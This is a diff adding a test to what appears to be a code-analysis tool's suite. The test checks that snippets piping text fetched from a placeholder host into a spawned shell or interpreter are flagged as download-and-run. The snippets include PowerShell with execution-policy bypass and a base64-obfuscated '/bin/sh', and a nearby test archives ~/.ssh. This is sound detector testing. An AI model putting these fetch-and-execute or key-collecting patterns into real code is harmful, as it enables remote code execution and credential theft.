@@ -22,6 +22,35 @@ describe('commands', () => {
     });
   }
 
+  it('are run by what reads code from its input, and not by what has a program of its own', () => {
+    const download = (started: string) =>
+      flowsOf(
+        `const child = ${started}; fetch('https://files.invalid').then((r) => r.text()).then((t) => child.stdin.write(t));`,
+      );
+    const isRun = (started: string) => download(started).includes('downloaded>run-as-command');
+    for (const started of [
+      `cp.spawn('/bin/sh')`,
+      `cp.spawn('bash', ['-i'])`,
+      `cp.spawn('cmd.exe', ['/q'])`,
+      `cp.spawn(process.platform === 'win32' ? 'cmd.exe' : 'sh', [])`,
+      `cp.spawn(process.env.SHELL)`,
+      `cp.spawn('powershell', ['-ExecutionPolicy', 'Bypass', '-Command', '-'])`,
+      `cp.spawn(process.execPath)`,
+      `cp.spawn('python3', ['-'])`,
+      `cp.exec('node')`,
+      `cp.spawn(Buffer.from('L2Jpbi9zaA==', 'base64').toString())`,
+    ])
+      assert.ok(isRun(started), started);
+    for (const started of [
+      `cp.spawn('java', ['-jar', 'rules.jar'])`,
+      `cp.spawn(process.execPath, [require.resolve('./service.js'), '--ping'])`,
+      `cp.spawn('bash', ['./deploy.sh'])`,
+      `cp.spawn(module.exports.binary, module.exports.args)`,
+      `cp.exec('git hash-object --stdin')`,
+    ])
+      assert.ok(!isRun(started), started);
+  });
+
   it('send nothing by reading what lies in a folder called .ssh', () => {
     assert.deepEqual(flowsOf(`cp.execSync('tar cf /tmp/keys.tar ~/.ssh');`), []);
   });
